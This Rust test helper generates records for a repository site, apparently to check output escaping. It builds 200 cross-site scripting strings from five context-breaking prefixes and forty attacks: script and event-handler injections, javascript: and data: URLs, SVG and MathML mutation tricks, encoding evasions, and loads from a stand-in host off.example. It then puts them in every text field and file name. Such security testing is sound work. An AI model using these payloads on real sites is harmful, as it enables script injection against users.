//! Records whose every text is an attempt to run code in a reader's browser.

use std::fs;
use std::path::{Path, PathBuf};

use serde_json::Value;

/// What ends the context that a text stands in: element content, an attribute, a comment,
/// a script, a title.
const BREAKS: [&str; 5] = [
    "",
    "\"><p title=\"",
    "' autofocus tabindex=1 onfocus=hit=@ x='",
    "--></script></style></title></textarea></noscript>",
    "</p></li></dd></section></main><!--><![CDATA[>]]>",
];

/// What then tries to run code, to load something, or to take the page over; `@` is a number.
const ATTACKS: [&str; 40] = [
    "<script>hit=@</script>",
    "<ScRiPt >alert(@)</sCrIpT >",
    "<script src=https://off.example/@.js></script>",
    "<script src=//off.example/@.js></script>",
    "<script\n>hit=@</script\n>",
    "<scr<script>ipt>alert(@)</scr</script>ipt>",
    "<img src=x onerror=alert(@)>",
    "<img src=https://off.example/@.png>",
    "<img src=`x` onerror=`alert(@)`>",
    "<img/src=x/onerror=hit=@>",
    "<img srcset=\"https://off.example/@.png 1x\">",
    "<svg onload=alert(@)>",
    "<svg><script>hit=@</script></svg>",
    "<svg><animate onbegin=alert(@) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(@)>#x\">",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(@)>",
    "<math><a xlink:href=\"javascript:alert(@)\">m</a></math>",
    "<iframe src=javascript:alert(@)></iframe>",
    "<iframe srcdoc=\"<script>parent.hit=@</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(@)</script>\"></object>",
    "<embed src=https://off.example/@.swf>",
    "<a href=javascript:alert(@)>a</a>",
    "<a href=\" &#106;ava\tscript&colon;alert(@)\">a</a>",
    "<a href=\"data:text/html,<script>alert(@)</script>\">a</a>",
    "<a href=vbscript:msgbox(@)>a</a>",
    "<form action=https://off.example/@><input autofocus onfocus=alert(@)></form>",
    "<button formaction=javascript:alert(@)>b</button>",
    "<details open ontoggle=alert(@)>d</details>",
    "<body onload=alert(@)>",
    "<base href=https://off.example/@/>",
    "<meta http-equiv=refresh content=\"0;url=https://off.example/@\">",
    "<link rel=stylesheet href=https://off.example/@.css>",
    "<style>@import 'https://off.example/@.css';*{background:url(//off.example/@)}</style>",
    "<p style=\"background:url(https://off.example/@)\">p</p>",
    "<video><source onerror=alert(@)></video>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(@)>\">",
    "<template><script>hit=@</script></template><plaintext>",
    "javascript:hit=@//https://example.org/",
    "\u{202e}\u{0}<\u{feff}script>hit=@</script>\u{2028}{{ site_name }}{% raw %}",
    "+ADw-script+AD4-alert(@)+ADw-/script+AD4- &lt;script&gt;alert(@)&lt;/script&gt;",
];

/// 200 payloads.
pub(crate) fn payloads() -> Vec<String> {
    let pairs = BREAKS.iter().flat_map(|before| ATTACKS.map(|attack| format!("{before}{attack}")));
    pairs.enumerate().map(|(number, text)| text.replace('@', &number.to_string())).collect()
}

/// A record that uses every field, with identifiers and terms that are known; and one of whose
/// terms none is.
const KNOWN: &str = include_str!("../golden/datacite/full.input.json");
const UNKNOWN: &str = include_str!("../site/records/hostile.json");

/// A record for each payload as a file, and of every tenth one whose terms are unknown, too;
/// gives it and the record ids.
pub(crate) fn records(into: &Path) -> (PathBuf, Vec<String>) {
    let template = |json: &str| serde_json::from_str::<Value>(json).unwrap();
    let (mut known, unknown) = (template(KNOWN), template(UNKNOWN));
    known["custom_fields"] = unknown["custom_fields"].clone();
    let mut lines = String::new();
    let mut ids = Vec::new();
    for (number, payload) in payloads().iter().enumerate() {
        for (template, kept, first) in [
            (&known, &["id", "scheme", "type", "slug"][..], 10_000),
            (&unknown, &["slug"][..], 20_000),
        ] {
            if first == 20_000 && number % 10 != 0 {
                continue;
            }
            let mut record = template.clone();
            let id = (first + 2 * number).to_string();
            fill(&mut record, payload, kept);
            record["id"] = id.as_str().into();
            record["parent"]["id"] = (first + 2 * number + 1).to_string().into();
            record["parent"]["communities"]["entries"][0]["slug"] =
                format!("community-{}", number % 3).into();
            // Without a year there would be no page.
            record["created"] = "2024-03-01T10:00:00.000001+00:00".into();
            record["updated"] = "2024-03-01T10:00:00.000001+00:00".into();
            // Everybody can see it and load its files; the rest of the record is free.
            record["access"] = serde_json::json!({"record": "public", "files": "public"});
            lines.push_str(&record.to_string());
            lines.push('\n');
            ids.push(id);
        }
    }
    let path = into.join("hostile.jsonl");
    fs::write(&path, lines).unwrap();
    (path, ids)
}

/// Puts the payload in the place of every text, and into the names of files, but for members
/// called as in `kept`.
fn fill(value: &mut Value, payload: &str, kept: &[&str]) {
    match value {
        Value::String(text) => payload.clone_into(text),
        Value::Array(items) => items.iter_mut().for_each(|item| fill(item, payload, kept)),
        Value::Object(members) => {
            for (name, member) in members.iter_mut() {
                if !(kept.contains(&name.as_str()) && member.is_string()) && name != "geometry" {
                    fill(member, payload, kept);
                }
            }
            if let Some(Value::Object(files)) = members.get_mut("entries") {
                let renamed = std::mem::take(files).into_iter();
                *files = renamed.map(|(key, file)| (format!("{payload}{key}"), file)).collect();
            }
        }
        _ => {}
    }
}
